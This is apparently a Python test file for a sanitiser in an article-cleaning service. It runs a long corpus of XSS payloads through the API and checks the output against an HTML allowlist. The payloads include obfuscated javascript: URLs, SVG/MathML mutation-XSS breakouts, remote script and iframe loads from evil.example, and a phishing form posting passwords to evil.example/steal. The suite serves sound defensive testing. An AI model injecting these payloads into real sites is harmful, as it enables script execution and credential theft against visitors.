"""Nothing that runs reaches the overlay: an XSS corpus through the whole pipeline.

Each payload sits inside a real article's paragraphs (so the extractor keeps it as article
content) and goes through ``POST /v1/clean``. The returned ``article.html`` is then parsed the
way the overlay's browser parses it — html5lib implements the WHATWG parsing algorithm,
foreign content (SVG, MathML) included — and every element, attribute and URL is checked
against the allowlist: a structural check, not the absence of a few substrings. The output must
also survive a second parse unchanged (no mutation XSS), and the strings of ``sources`` and
``links`` must hold no markup and no unsafe link.

Property tests (hypothesis) send generated HTML and JSON: never a 5xx, always JSON, and the
HTML always inside the allowlist.
"""

from __future__ import annotations

import json
import re
from datetime import timedelta
from typing import Any

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings as hypothesis_settings, strategies as st

from helpers import story_page
from sourcelight.render import ARTICLE_ATTRIBUTES, ARTICLE_TAGS, MARK_CLASSES, URL_SCHEMES, \
    sanitize_html

XHTML = "{http://www.w3.org/1999/xhtml}"
URL = "https://news.example/city/buses"
# Attributes that hold a URL somewhere in HTML, SVG or MathML.
URL_ATTRIBUTES = frozenset({
    "href", "src", "cite", "srcset", "action", "formaction", "poster", "background", "data",
    "ping", "longdesc", "usemap", "manifest", "codebase", "classid", "archive", "lowsrc",
    "dynsrc", "icon", "profile", "xlink:href", "xml:base",
})
# Never allowed, whatever the allowlist says: each can run script, load content or restyle the
# overlay. The allowlist itself is checked against these.
ACTIVE_TAGS = frozenset({
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "param",
    "svg", "math", "form", "input", "button", "select", "textarea", "base", "meta", "link",
    "template", "noscript", "audio", "video", "source", "track", "canvas", "portal", "dialog",
    "marquee", "xmp", "plaintext", "noembed", "noframes", "isindex", "image",
})
ACTIVE_ATTRIBUTES = frozenset({
    "style", "srcdoc", "srcset", "formaction", "action", "xlink:href", "poster", "background",
    "id", "name", "target", "form", "is", "nonce", "autofocus", "contenteditable", "popover",
})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})


# ---------------------------------------------------------------- the structural check
def browser_scheme(url: str) -> str | None:
    """The scheme a browser reads in ``url`` (WHATWG URL: C0 controls and space trimmed at
    the ends, tab and line breaks removed anywhere), or None for a relative URL."""
    url = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", url)
    return match.group(1).lower() if match else None


def allowed_attributes(tag: str) -> set[str]:
    allowed = set(ARTICLE_ATTRIBUTES.get("*", ())) | set(ARTICLE_ATTRIBUTES.get(tag, ()))
    if tag in MARK_CLASSES:
        allowed.add("class")
    if tag == "a":
        allowed.add("rel")  # nh3 adds rel="noopener noreferrer" to every link
    return allowed


def parse_as_browser(markup: str):
    """``markup`` parsed as ``div.innerHTML = markup`` would (html5lib, etree)."""
    return html5lib.parseFragment(markup, container="div", treebuilder="etree",
                                  namespaceHTMLElements=True)


def unsafe_parts(markup: str) -> list[str]:
    """Everything in ``markup`` outside the allowlist, as readable descriptions (empty when
    it is all allowed)."""
    problems = []
    for element in parse_as_browser(markup).iter():
        tag = element.tag
        if not isinstance(tag, str):  # a comment or processing instruction
            problems.append(f"comment {element.text!r}")
            continue
        if tag == "DOCUMENT_FRAGMENT":
            continue
        if not tag.startswith(XHTML):  # SVG, MathML or any other foreign element
            problems.append(f"foreign element {tag}")
            continue
        name = tag[len(XHTML):]
        if name not in ARTICLE_TAGS or name in ACTIVE_TAGS:
            problems.append(f"tag <{name}>")
        for attribute, value in element.attrib.items():
            problems.extend(attribute_problems(name, attribute, value))
    return problems


def attribute_problems(tag: str, attribute: str, value: str) -> list[str]:
    attribute = attribute.lower()
    if attribute not in allowed_attributes(tag) or attribute in ACTIVE_ATTRIBUTES \
            or attribute.startswith("on"):
        return [f"attribute {attribute}= on <{tag}>"]
    if attribute == "class" and not set(value.split()) <= MARK_CLASSES.get(tag, set()):
        return [f"class {value!r} on <{tag}>"]
    if attribute == "rel" and value != "noopener noreferrer":
        return [f"rel {value!r}"]
    if attribute in URL_ATTRIBUTES:
        scheme = browser_scheme(value)
        if scheme is not None and scheme not in SAFE_SCHEMES:
            return [f"{scheme}: URL in {attribute}= on <{tag}>"]
    return []


def reparsed(markup: str) -> str:
    """``markup`` after one browser parse and serialisation (what ``innerHTML`` reads back)."""
    return html5lib.serialize(parse_as_browser(markup), tree="etree",
                              quote_attr_values="always", omit_optional_tags=False,
                              use_trailing_solidus=False, resolve_entities=False)


def shape(markup: str) -> list[tuple]:
    """Elements and attributes of ``markup`` as a browser sees them, in document order."""
    return [(el.tag, sorted(el.attrib.items()), el.text, el.tail)
            for el in parse_as_browser(markup).iter()]


def assert_safe_html(markup: str) -> None:
    """Inside the allowlist, and the same after a parse-serialise-parse round (mXSS)."""
    assert unsafe_parts(markup) == [], markup[:2000]
    again = reparsed(markup)
    assert unsafe_parts(again) == [], again[:2000]
    assert shape(again) == shape(markup), markup[:2000]


def strings_in(value: Any, key: str = "") -> list[tuple[str, str]]:
    """Every (key, string) pair in a decoded JSON value."""
    if isinstance(value, str):
        return [(key, value)]
    if isinstance(value, dict):
        return [pair for k, v in value.items() for pair in strings_in(v, k)]
    if isinstance(value, list):
        return [pair for v in value for pair in strings_in(v, key)]
    return []


def assert_safe_annotations(body: dict) -> None:
    """Links only to http/https/mailto; no markup in any string the overlay shows as text."""
    for link in body["links"]:
        assert browser_scheme(link["href"]) in SAFE_SCHEMES, link
    for key, text in strings_in([body["sources"], body["links"], body["attributions"],
                                 body["summary"]]):
        if key != "href":
            assert not re.search(r"<[a-zA-Z/!?]", text), (key, text)
        assert browser_scheme(text) not in {"javascript", "vbscript", "data"}, (key, text)


def test_the_allowlist_itself_has_nothing_active():
    assert not ARTICLE_TAGS & ACTIVE_TAGS
    for tag, attributes in ARTICLE_ATTRIBUTES.items():
        assert not set(attributes) & ACTIVE_ATTRIBUTES, tag
        assert not any(a.startswith("on") for a in attributes), tag
    assert URL_SCHEMES == SAFE_SCHEMES


@pytest.mark.parametrize("markup", [
    '<p>ok <img src="x" onerror="alert(1)"></p>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<p style="color:red">x</p>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<q cite=" data:text/html,x">x</q>',
    "<p>x</p><!-- a comment -->",
    '<mark class="evil">x</mark>',
])
def test_the_check_catches_what_it_must(markup):
    # The checker itself must fail on unsafe markup, or a passing corpus proves nothing.
    assert unsafe_parts(markup) != []


# ---------------------------------------------------------------- the corpus
CORPUS = {
    # event handlers
    "img-onerror": '<img src=x onerror=alert(1)>',
    "p-onclick": '<span onclick="alert(1)">click me</span>',
    "a-onmouseover": '<a href="https://ok.example/" onmouseover=alert(1)>ok</a>',
    "uppercase-handler": '<b ONCLICK=alert(1)>bold</b>',
    "slash-separated-handler": '<i/onclick=alert(1)>italic</i>',
    "details-ontoggle": '<details open ontoggle=alert(1)><summary>s</summary>d</details>',
    "body-onload": '<body onload=alert(1)>',
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "marquee-onstart": '<marquee onstart=alert(1)>m</marquee>',
    "img-eval-src": '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    # javascript: URLs, plain and obfuscated
    "javascript-href": '<a href="javascript:alert(1)">link</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">link</a>',
    "javascript-entity-j": '<a href="&#106;avascript:alert(1)">link</a>',
    "javascript-entity-padded": ('<a href="&#0000106&#0000097&#0000118&#0000097&#0000115'
                                 '&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058'
                                 'alert(1)">link</a>'),
    "javascript-hex-entities": ('<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;'
                                '&#x70;&#x74;&#x3A;alert(1)">link</a>'),
    "javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">link</a>',
    "javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">link</a>',
    "javascript-cr-entity": '<a href="jav&#x0D;ascript:alert(1)">link</a>',
    "javascript-raw-tab": '<a href="jav\tascript:alert(1)">link</a>',
    "javascript-leading-space": '<a href="   javascript:alert(1)">link</a>',
    "javascript-leading-control": '<a href="&#x01;&#x1f;javascript:alert(1)">link</a>',
    "javascript-colon-entity": '<a href="javascript&colon;alert(1)">link</a>',
    "javascript-unquoted": '<a href=javascript:alert(1)>link</a>',
    "vbscript-href": '<a href="vbscript:msgbox(1)">link</a>',
    "javascript-img-src": '<img src="javascript:alert(1)">',
    "javascript-area": '<map><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>',
    # data: URLs
    "data-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "data-img-svg": '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    "data-img-png": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    # other URL-bearing attributes
    "srcset-javascript": ('<img src="https://ok.example/a.jpg" '
                          'srcset="javascript:alert(1) 1x, data:image/png;base64,AA 2x">'),
    "cite-javascript-q": '<q cite="javascript:alert(1)">quoted</q>',
    "cite-data-blockquote": '<blockquote cite="data:text/html,x"><p>quoted block</p></blockquote>',
    "cite-entity-javascript": '<q cite="&#106;avascript:alert(1)">quoted</q>',
    "cite-del-ins": '<del cite="javascript:alert(1)">old</del><ins cite="vbscript:x">new</ins>',
    "poster-javascript": '<video poster="javascript:alert(1)"></video>',
    "formaction-button": '<form><button formaction="javascript:alert(1)">go</button></form>',
    "formaction-input": '<input type=image formaction="javascript:alert(1)" src=x>',
    "xlink-href-svg": ('<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text>'
                       '</a></svg>'),
    "xlink-href-math": ('<math><maction actiontype=statusline xlink:href="javascript:alert(1)">'
                        'CLICKME</maction></math>'),
    "td-background": '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>',
    "a-ping": '<a href="https://ok.example/" ping="https://track.example/p">tracked</a>',
    # CSS
    "style-url-javascript": '<span style="background:url(javascript:alert(1))">styled</span>',
    "style-url-tracker": '<span style="background-image:url(https://track.example/p.gif)">s</span>',
    "style-expression": '<span style="width: expression(alert(1))">old IE</span>',
    "style-behavior": '<span style="behavior:url(x.htc)">behaviour</span>',
    "style-element": ('<style>@import "https://evil.example/x.css"; '
                      'p{background:url(javascript:alert(1))}</style>'),
    "style-overlay-cover": ('<span style="position:fixed;top:0;left:0;width:100%;height:100%;'
                            'z-index:2147483647">cover</span>'),
    # frames and plugins
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-remote": '<iframe src="https://evil.example/"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "object-flash": ('<object data="https://evil.example/x.swf" '
                     'type="application/x-shockwave-flash">'
                     '<param name=allowScriptAccess value=always></object>'),
    "embed-src": '<embed src="javascript:alert(1)">',
    "embed-svg": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "frameset": '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    # SVG
    "svg-onload": '<svg onload=alert(1)><circle r=5></circle></svg>',
    "svg-script": '<svg><script>alert(1)</script></svg>',
    "svg-set": '<svg><set attributeName=onload to=alert(1) /></svg>',
    "svg-set-href": ('<svg><a><set attributeName=href to="javascript:alert(1)" />'
                     '<text x=1 y=1>click</text></a></svg>'),
    "svg-animate-href": ('<svg><animate attributeName=href values="javascript:alert(1)" />'
                         '<a><text x=1 y=1>click</text></a></svg>'),
    "svg-animate-onbegin": '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "svg-foreignobject": '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    "svg-use-data": '<svg><use href="data:image/svg+xml,&lt;svg id=x&gt;" /></svg>',
    # mutation XSS (math / mglyph / style and friends)
    "math-mglyph-style": ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'
                          '</style></mglyph></table></mtext></math>'),
    "math-form-mglyph-style": ('<form><math><mtext></form><form><mglyph><style></math>'
                               '<img src onerror=alert(1)>'),
    "math-mi-svg-textarea": ('<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
                             '<img onerror=alert(1) src=1>">'),
    "svg-style-breakout": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math-annotation-xml": ('<math><annotation-xml encoding="text/html"><style>'
                            '<img src=x onerror=alert(1)></style></annotation-xml></math>'),
    # parser-context breakouts
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "xmp-breakout": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "title-breakout": '<title><img src=x onerror=alert(1)></title>',
    "textarea-breakout": '<textarea><img src=x onerror=alert(1)></textarea>',
    "comment-breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "cdata-breakout": '<![CDATA[><img src=x onerror=alert(1)>]]>',
    "split-script-tag": '<scr<script>ipt>alert(1)</script>',
    # document-level elements
    "base-href-javascript": '<base href="javascript:alert(1)//">',
    "base-href-remote": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-remote": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "link-import": '<link rel=import href="https://evil.example/x.html">',
    "template": '<template><img src=x onerror=alert(1)></template>',
    "template-shadowroot": ('<div><template shadowrootmode=open><img src=x onerror=alert(1)>'
                            '</template></div>'),
    "script-plain": '<script>alert(1)</script>',
    "script-remote": '<script src="https://evil.example/x.js"></script>',
    # forms and DOM clobbering
    "form-phishing": ('<form action="https://evil.example/steal"><input name=password '
                      'type=password><button>Log in</button></form>'),
    "dom-clobbering": '<a href="https://ok.example/" id="defaultView" name="cookie">c</a>',
    "img-name-clobbering": '<img name="getElementById" src="https://ok.example/a.jpg">',
    "target-blank": '<a href="https://ok.example/" target="_blank">new tab</a>',
    "fake-annotation": '<mark class="sl-source" data-attr="a1" data-entity="e1">fake source</mark>',
    "class-spoof": '<span class="sl-content overlay-close">spoof</span>',
}


@pytest.fixture(scope="module")
def module_client():
    """One paired client for the corpus (built once: the corpus is long)."""
    from helpers import TEST_TOKEN, AuthorizedClient
    from sourcelight.app import close_worker_pool, create_app, get_worker_pool
    from sourcelight.settings import Settings

    app = create_app(Settings(token=TEST_TOKEN), {"TESTING": True})
    app.test_client_class = AuthorizedClient
    # Workers warm before the first example, so no example's deadline pays for their start.
    get_worker_pool(app).start(wait=True)
    yield app.test_client()
    close_worker_pool(app)


def clean_page(client, html: str) -> dict:
    response = client.post("/v1/clean", data=json.dumps({"url": URL, "html": html}),
                           content_type="application/json")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response.get_json()


@pytest.mark.parametrize("payload", list(CORPUS.values()), ids=list(CORPUS))
def test_xss_corpus_leaves_only_allowlisted_html(module_client, payload):
    body = clean_page(module_client, story_page(payload))
    html = body["article"]["html"]
    # The payload sat inside the article: the story around it is there, so the check below
    # looked at the part of the page that held it.
    assert "eastern suburbs" in body["article"]["text"]
    assert_safe_html(html)
    assert_safe_annotations(body)


def test_fake_annotations_from_the_page_are_not_kept(module_client):
    body = clean_page(module_client, story_page(CORPUS["fake-annotation"]))
    marks = list(parse_as_browser(body["article"]["html"]).iter(XHTML + "mark"))
    ids = {a["id"] for a in body["attributions"]}
    text_of = lambda element: "".join(element.itertext())  # noqa: E731
    # The page keeps its highlight, but without our annotation's class and attributes…
    assert any(text_of(m) == "fake source" and not m.attrib for m in marks)
    # …so nothing calls the page's words a source, and every annotated mark is one of ours,
    # pointing at an attribution that exists.
    assert not any("fake source" in text_of(m) and m.get("class") == "sl-source" for m in marks)
    annotated = [m for m in marks if m.attrib]
    assert annotated and all(m.get("data-attr") in ids for m in annotated)


def test_safe_links_survive(module_client):
    # The sanitiser is strict, not blind: ordinary article markup stays.
    body = clean_page(module_client, story_page(
        '<a href="https://ok.example/report">the report</a> and '
        '<a href="mailto:desk@news.example">the desk</a> <q cite="https://ok.example/q">a '
        'quote</q> <em>emphasis</em>'))
    tree = parse_as_browser(body["article"]["html"])
    hrefs = [a.get("href") for a in tree.iter(XHTML + "a")]
    assert "https://ok.example/report" in hrefs and "mailto:desk@news.example" in hrefs
    assert [q.get("cite") for q in tree.iter(XHTML + "q")] == ["https://ok.example/q"]
    assert any("".join(el.itertext()) == "emphasis" for el in tree.iter(XHTML + "em"))


# ---------------------------------------------------------------- property tests
TAGS = sorted(ARTICLE_TAGS | ACTIVE_TAGS | {"body", "html", "head", "title", "area", "map",
                                             "animate", "set", "foreignObject", "mglyph",
                                             "mtext", "annotation-xml", "use", "image"})
ATTRIBUTE_NAMES = sorted(URL_ATTRIBUTES | ACTIVE_ATTRIBUTES | {
    "onclick", "onerror", "onload", "ONMOUSEOVER", "class", "data-attr", "data-entity", "title",
    "lang", "dir", "alt", "width", "datetime", "colspan", "attributename", "to", "values",
    "http-equiv", "content", "type", "rel"})
URL_VALUES = st.sampled_from([
    "javascript:alert(1)", "&#106;avascript:alert(1)", "jav&#x09;ascript:alert(1)",
    " \x01javascript:alert(1)", "JAVASCRIPT:alert(1)", "vbscript:x", "data:text/html,<b>x",
    "https://ok.example/a", "http://ok.example/b", "mailto:a@b.example", "/relative",
    "//evil.example/x", "file:///etc/passwd", "sl-source", "alert(1)",
]) | st.text(max_size=12)
TEXT = st.sampled_from(["words of a sentence ", "<", ">", "&amp;", "&#0;", "\"", "'", "</",
                        "<!--", "-->", "]]>", "\u2028", "\ufeff"]) | st.text(max_size=10)


def attribute_html() -> st.SearchStrategy[str]:
    quoted = st.sampled_from(['"{}"', "'{}'", "{}"])
    return st.builds(lambda name, q, value: f" {name}={q.format(value.replace(chr(34), ''))}",
                     st.sampled_from(ATTRIBUTE_NAMES), quoted, URL_VALUES)


def element_html(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.builds(
        lambda tag, attributes, inner, close: f"<{tag}{''.join(attributes)}>{''.join(inner)}"
                                              + (f"</{tag}>" if close else ""),
        st.sampled_from(TAGS), st.lists(attribute_html(), max_size=3),
        st.lists(children, max_size=3), st.booleans())


HTML = st.recursive(TEXT, element_html, max_leaves=25)

PROPERTY_SETTINGS = hypothesis_settings(
    max_examples=100, deadline=timedelta(seconds=5),
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@PROPERTY_SETTINGS
@given(fragment=HTML)
def test_generated_html_through_the_api_stays_in_the_allowlist(module_client, fragment):
    response = module_client.post("/v1/clean",
                                  data=json.dumps({"url": URL, "html": story_page(fragment)}),
                                  content_type="application/json")
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/json"
    body = response.get_json()
    if response.status_code == 200:
        assert_safe_html(body["article"]["html"])
        assert_safe_annotations(body)
    else:
        assert set(body) == {"error", "message"}


@hypothesis_settings(max_examples=300, deadline=timedelta(seconds=2))
@given(fragment=HTML)
def test_generated_html_through_the_sanitiser_stays_in_the_allowlist(fragment):
    assert_safe_html(sanitize_html(fragment))


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | HTML,
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.sampled_from(["html", "url", "title", "x"]) | st.text(max_size=6),
                      children, max_size=4),
    max_leaves=15,
)


@PROPERTY_SETTINGS
@given(payload=JSON_VALUES | st.fixed_dictionaries(
    {"html": HTML.map(story_page) | JSON_VALUES}, optional={"url": URL_VALUES | JSON_VALUES}))
def test_generated_json_bodies_never_cause_a_server_error(module_client, payload):
    data = json.dumps(payload, allow_nan=True)
    response = module_client.post("/v1/clean", data=data, content_type="application/json")
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/json"
    body = response.get_json()
    if response.status_code == 200:
        assert_safe_html(body["article"]["html"])
    else:
        assert set(body) == {"error", "message"} and body["message"]


@PROPERTY_SETTINGS
@given(raw=st.binary(max_size=200)
       | st.text(max_size=200).map(lambda text: text.encode("utf-8", "surrogatepass")))
def test_generated_raw_bodies_never_cause_a_server_error(module_client, raw):
    response = module_client.post("/v1/clean", data=raw, content_type="application/json")
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/json"
    if response.status_code != 200:
        assert set(response.get_json()) == {"error", "message"}
